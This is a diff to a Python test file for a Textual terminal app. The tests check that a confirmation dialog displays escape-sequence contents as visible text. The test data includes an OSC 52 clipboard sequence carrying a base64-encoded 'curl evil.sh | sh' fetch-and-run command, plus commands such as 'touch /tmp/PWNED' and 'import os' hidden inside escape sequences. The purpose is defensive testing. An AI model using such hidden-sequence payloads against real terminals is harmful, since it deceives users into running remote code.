@@ -18,7 +18,7 @@ from textual.containers import VerticalScroll
 from textual.markup import to_content
 from textual.strip import Strip
 from textual.widget import Widget
-from textual.widgets import Label
+from textual.widgets import Label, Static
 
 PAYLOAD = base64.b64encode(b"curl evil.sh | sh").decode()
 OSC52 = f"\x1b]52;c;{PAYLOAD}\x07"  # sets the clipboard, BEL-terminated
@@ -168,5 +168,23 @@ async def test_a_confirm_dialog_shows_brackets_and_escapes_as_text():
         for widget in screen.query("*"):
             if widget.size.area:
                 shown += assert_inert(widget.render_lines(widget.size.region)) + "\n"
-        assert "Overwrite [/]x.py ␛?" in str(screen.query_one(Label).render())
-        assert "+␛" in shown and "-␛old" in shown and PAYLOAD not in shown
+        # What a yes/no question is about is shown in full: a sequence's inside is not hidden behind one ␛
+        # (code inside ESC ] ... BEL was written to the file, or run, after a Yes to a dialog that hid it).
+        assert f"Overwrite [/]x.py ␛]52;c;{PAYLOAD}␇?" in str(screen.query_one(Label).render())
+        assert f"+␛]52;c;{PAYLOAD}␛\\" in shown and "-␛[2Jold" in shown
+
+
+class Hidden(App):
+    def on_mount(self) -> None:
+        command = 'echo checking \x1b]0; touch /tmp/PWNED; echo \x07'
+        self.push_screen(ConfirmScreen(f"Run $ {command}?", '+NAME = "app\x1b]0;"; import os; X = "\x07"\n'))
+
+
+async def test_a_confirm_dialog_hides_nothing_inside_an_escape_sequence():
+    async with Hidden().run_test(size=(100, 30)) as pilot:
+        await pilot.pause()
+        screen = pilot.app.screen
+        question = str(screen.query_one(Label).render())
+        shown = screen.query_one(VerticalScroll).query_one(Static)
+        diff = assert_inert(shown.render_lines(shown.size.region))
+        assert "touch /tmp/PWNED" in question and "import os" in diff
